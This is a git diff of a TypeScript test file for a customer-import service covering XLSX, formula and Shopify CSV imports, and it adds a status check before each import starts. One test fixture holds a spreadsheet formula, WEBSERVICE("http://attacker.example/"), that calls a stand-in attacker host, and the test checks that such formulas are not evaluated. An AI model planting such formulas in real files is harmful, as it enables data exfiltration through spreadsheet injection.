@@ -3,7 +3,7 @@ import ExcelJS from 'exceljs';
 import iconv from 'iconv-lite';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type StaffAgent, type TestApp } from '../support/test-app.ts';
-import { customerByEmail, fixture, getImport, importFile, post, upload, uploadOk, waitForStatus } from './import-helpers.ts';
+import { checkOk, customerByEmail, fixture, getImport, importFile, post, upload, uploadOk, waitForStatus } from './import-helpers.ts';
 
 let app: TestApp;
 let staff: StaffAgent;
@@ -154,7 +154,8 @@ describe('other formats and platforms', () => {
     // The row estimate (and the progress total) is the chosen sheet's, not the first one's.
     expect(chosen.json().analysis.estimatedRows).toBe(1);
     expect(chosen.json().progress.totalRows).toBe(1);
-    await post(staff, `/api/v1/imports/${uploaded.id}/start`);
+    await checkOk(staff, uploaded.id);
+    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
     await waitForStatus(staff, uploaded.id, ['done']);
     expect(await customerByEmail(app, 'xlsx@example.nl')).toMatchObject({ mobile: '+31 6 12345678', billingAddress: expect.objectContaining({ postcode: '1016 GV' }) });
   });
@@ -166,7 +167,8 @@ describe('other formats and platforms', () => {
     sheet.addRow(['formula@example.com', 'For', 'Mula', { formula: 'CONCAT("a","b")', result: 'cached text' }]);
     sheet.addRow(['noresult@example.com', 'No', 'Result', { formula: 'WEBSERVICE("http://attacker.example/")' }]);
     const uploaded = await uploadOk(staff, 'formulas.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
-    await post(staff, `/api/v1/imports/${uploaded.id}/start`);
+    await checkOk(staff, uploaded.id);
+    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
     await waitForStatus(staff, uploaded.id, ['done']);
     expect((await customerByEmail(app, 'formula@example.com'))?.notes).toBe('cached text');
     expect((await customerByEmail(app, 'noresult@example.com'))?.notes).toBe('');
@@ -175,7 +177,8 @@ describe('other formats and platforms', () => {
   it('recognises a Shopify export and names the preset', async () => {
     const uploaded = await uploadOk(staff, 'customers_export.csv', fixture('shopify-export.csv'));
     expect(uploaded.mapping.preset?.name).toContain('Shopify');
-    await post(staff, `/api/v1/imports/${uploaded.id}/start`);
+    await checkOk(staff, uploaded.id);
+    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
     const done = await waitForStatus(staff, uploaded.id, ['done', 'done_with_errors']);
     expect(done.counts.created).toBeGreaterThan(0);
     const sanne = await customerByEmail(app, 'sanne@example.nl');
